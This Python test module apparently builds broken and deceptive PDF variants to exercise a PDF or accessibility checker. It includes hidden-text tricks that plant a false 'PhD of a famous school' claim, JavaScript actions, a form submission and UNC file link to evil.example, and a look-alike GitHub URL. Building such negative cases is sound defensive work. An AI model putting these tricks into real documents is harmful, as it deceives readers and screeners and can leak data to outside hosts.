"""More kinds of PDFs that are broken or deceive; as in broken_pdfs.py, each by one change of a good file."""

from __future__ import annotations

import re
from typing import Any

from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NullObject,
    NumberObject,
    RectangleObject,
    TextStringObject,
)

from tests.checks.broken_pdfs import (
    Change,
    around,
    content,
    dictionary,
    elements,
    fonts,
    form,
    in_fonts,
    name,
    resource,
    said,
)


def _each_text(before: bytes) -> Change:
    """Something at the beginning of every text object of the first page."""

    def change(writer: Any) -> None:
        content(writer, lambda data: re.sub(rb"\bBT\b", before + b" BT", data))

    return change


def _state(**values: Any) -> Change:
    def change(writer: Any) -> None:
        resource(writer, "ExtGState", "Other", dictionary(**values))
        _each_text(b"/Other gs")(writer)

    return change


def _soft_mask(writer: Any) -> None:
    group = form(writer, b"0 g 0 0 600 850 re f", Group=dictionary(S=name("Transparency"), CS=name("DeviceGray")))
    _state(SMask=dictionary(S=name("Luminosity"), G=group))(writer)


def _white_ink(writer: Any) -> None:
    """An ink of its own that is as white as paper."""
    tint = dictionary(
        FunctionType=NumberObject(2),
        Domain=ArrayObject([NumberObject(0), NumberObject(1)]),
        C0=ArrayObject([FloatObject(1)] * 3),
        C1=ArrayObject([FloatObject(1)] * 3),
        N=NumberObject(1),
    )
    resource(writer, "ColorSpace", "Ink", ArrayObject([name("Separation"), name("Paper"), name("DeviceRGB"), tint]))
    _each_text(b"/Ink cs 1 scn")(writer)


def _covering_note(writer: Any) -> None:
    """A note whose picture lies on the words."""
    seen = form(writer, b"1 g 0 0 600 850 re f")
    note = dictionary(
        Type=name("Annot"), Subtype=name("Stamp"), Rect=RectangleObject((0, 500, 600, 850)), F=NumberObject(4),
        AP=dictionary(N=seen), Contents=TextStringObject("x"),
    )  # fmt: skip
    writer.pages[0]["/Annots"].append(writer._add_object(note))


def _marked_text(writer: Any) -> None:
    """What is said in place of glyphs, in the page itself and not in the tags."""
    lie = b"/Span <</ActualText (PhD of a famous school)>> BDC BT"
    content(writer, lambda data: re.sub(rb"(?s)\bBT\b(.*?)\bET\b", lie + rb"\1ET EMC", data, count=1))


def _artifacts(writer: Any) -> None:
    """Words that people see and that are furniture for programs that read aloud."""
    content(
        writer, lambda data: re.sub(rb"/(P|Span|LBody)\s*<<\s*/MCID \d+\s*>>\s*BDC", b"/Artifact BMC", data, count=3)
    )


def _reordered(writer: Any) -> None:
    """What is read aloud comes in another order than it stands."""
    longest = max(
        (one for one in elements(writer) if isinstance(one.get("/K"), ArrayObject)), key=lambda one: len(one["/K"])
    )
    longest[name("K")] = ArrayObject(reversed(longest["/K"]))


def _on_black(writer: Any) -> None:
    content(
        writer, lambda data: b"q /Artifact BMC 0 g 0 600 600 250 re f EMC Q\n" + re.sub(rb"\bBT\b", b"0 g BT", data)
    )


def _emptied(writer: Any) -> None:
    """Glyphs without ink: every outline of the fonts is another font's blank."""
    for font in fonts(writer):
        inner = font["/DescendantFonts"][0].get_object()
        table = DecodedStreamObject()
        table.set_data(bytes(2 * 65536))
        inner[name("CIDToGIDMap")] = writer._add_object(table)
        if str(inner["/Subtype"]) == "/CIDFontType0":
            inner[name("Subtype")] = name("CIDFontType2")


def _action(key: str, **values: Any) -> Change:
    def change(writer: Any) -> None:
        for note in writer.pages[0]["/Annots"]:
            one = note.get_object()
            if "/A" in one:
                if key:
                    one["/A"][name(key)] = dictionary(**values)
                else:
                    one[name("A")] = dictionary(**values)
                return

    return change


def _root(key: str, value: Any) -> Change:
    def change(writer: Any) -> None:
        writer.root_object[name(key)] = value

    return change


def _page(key: str, value: Any, number: int = 0) -> Change:
    def change(writer: Any) -> None:
        writer.pages[number][name(key)] = value

    return change


def _look_alike(writer: Any) -> None:
    for note in writer.pages[0]["/Annots"]:
        one = note.get_object()
        if str(one.get("/A", {}).get("/URI", "")).startswith("https://github.com"):
            one["/A"][name("URI")] = TextStringObject("https://g\u0456thub.com/ada-example")
            return


def _wide_link(writer: Any) -> None:
    """Whoever clicks anywhere is led there."""
    for note in writer.pages[0]["/Annots"]:
        one = note.get_object()
        if "/A" in one:
            one[name("Rect")] = RectangleObject((0, 0, 595, 842))
            return


def _script_names(writer: Any) -> None:
    action = dictionary(S=name("JavaScript"), JS=TextStringObject("app.alert(1)"))
    tree = dictionary(Names=ArrayObject([TextStringObject("x"), action]))
    writer.root_object.setdefault(name("Names"), DictionaryObject()).get_object()[name("JavaScript")] = tree


def _form(writer: Any) -> None:
    field = dictionary(
        Type=name("Annot"), Subtype=name("Widget"), FT=name("Tx"), T=TextStringObject("x"),
        Rect=RectangleObject((50, 50, 300, 90)), V=TextStringObject("PhD of a famous school"),
    )  # fmt: skip
    known = writer._add_object(field)
    writer.pages[0]["/Annots"].append(known)
    writer.root_object[name("AcroForm")] = dictionary(Fields=ArrayObject([known]))


def _font_key(key: str, value: Any) -> Change:
    def work(font: Any) -> None:
        font["/DescendantFonts"][0].get_object()[name(key)] = value

    return in_fonts(work)


def _shifted(writer: Any) -> None:
    """Every glyph is the next one of its font."""
    for font in fonts(writer):
        inner = font["/DescendantFonts"][0].get_object()
        table = DecodedStreamObject()
        table.set_data(b"".join((n + 1).to_bytes(2, "big") for n in range(3000)))
        inner[name("CIDToGIDMap")] = writer._add_object(table)


def _xmp(change: Any) -> Change:
    def work(writer: Any) -> None:
        stream = writer.root_object["/Metadata"].get_object()
        made = DecodedStreamObject()
        made.set_data(change(stream.get_data()))
        made.update({key: value for key, value in stream.items() if key not in ("/Length", "/Filter")})
        writer.root_object[name("Metadata")] = writer._add_object(made)

    return work


def _no_way(writer: Any) -> None:
    for page in writer.pages:
        page.pop(name("StructParents"), None)


def _twice_marked(writer: Any) -> None:
    content(writer, lambda data: re.sub(rb"/MCID \d+", b"/MCID 1", data))


def _no_glyph_font(writer: Any) -> None:
    """A font that the page names is not among its resources."""
    writer.pages[0]["/Resources"][name("Font")] = DictionaryObject()


def _tall(writer: Any) -> None:
    content(writer, lambda data: re.sub(rb"(?m)^(1 0 0? ?-?)1 ", rb"\g<1>3 ", data))


BROKEN: dict[str, Change] = {
    "tags of no page": _no_way,
    "no tree of parents": lambda writer: writer.root_object["/StructTreeRoot"].pop(name("ParentTree"), None) and None,
    "all marks one": _twice_marked,
    "no font": _no_glyph_font,
    "no content": lambda writer: writer.pages[0].pop(name("Contents")) and None,
    "content that breaks off": lambda writer: content(writer, lambda data: data[: len(data) // 2]),
    "content of nobody": lambda writer: content(writer, lambda data: data + b"\nQ Q Q (x Tj << [ foo bar"),
    "glyphs in place of others": _shifted,
    "no widths": _font_key("W", ArrayObject()),
    "XMP that is none": _xmp(lambda data: data[: len(data) // 2]),
    "XMP without a claim": _xmp(
        lambda data: re.sub(rb"(?s)<pdfuaid:part>.*?</pdfuaid:part>|pdfuaid:part=\S+", b"", data)
    ),
    "a page as large as a house": _page("UserUnit", NumberObject(75000)),
    "no paper": _page("MediaBox", RectangleObject((0, 0, 0, 0))),
    "a picture that is not there": around(b"/Nobody Do "),
    "a null for a page's words": _page("Contents", NullObject()),
}

EVASIVE: dict[str, Change] = {
    "behind a soft mask": _soft_mask,
    "mixed with the paper": _state(BM=name("Screen")),
    "an ink that is white": _white_ink,
    "white in CMYK": _each_text(b"0 0 0 0 k"),
    "yellow": _each_text(b"1 1 0 rg"),
    "only as a clip": _each_text(b"7 Tr"),
    "on its own colour": _on_black,
    "under a note's picture": _covering_note,
    "said in place of glyphs": _marked_text,
    "as furniture": _artifacts,
    "in another order": _reordered,
    "glyphs without ink": _emptied,
    "spelt out as something else": said("E", "PhD of a famous school", "Span", "P"),
    "a link that runs a script next": _action("Next", S=name("JavaScript"), JS=TextStringObject("app.alert(1)")),
    "a link that sends a form": _action("", S=name("SubmitForm"), F=TextStringObject("https://evil.example/")),
    "a link to another file": _action(
        "", S=name("GoToR"), F=TextStringObject("\\\\evil.example\\x"), D=NumberObject(0)
    ),
    "a base of all links": _root("URI", dictionary(Base=TextStringObject("https://evil.example/"))),
    "a script by name": _script_names,
    "a script of the page": _page("AA", dictionary(O=dictionary(S=name("JavaScript"), JS=TextStringObject("x")))),
    "a form's field": _form,
    "a link with a look-alike": _look_alike,
    "a link all over": _wide_link,
}
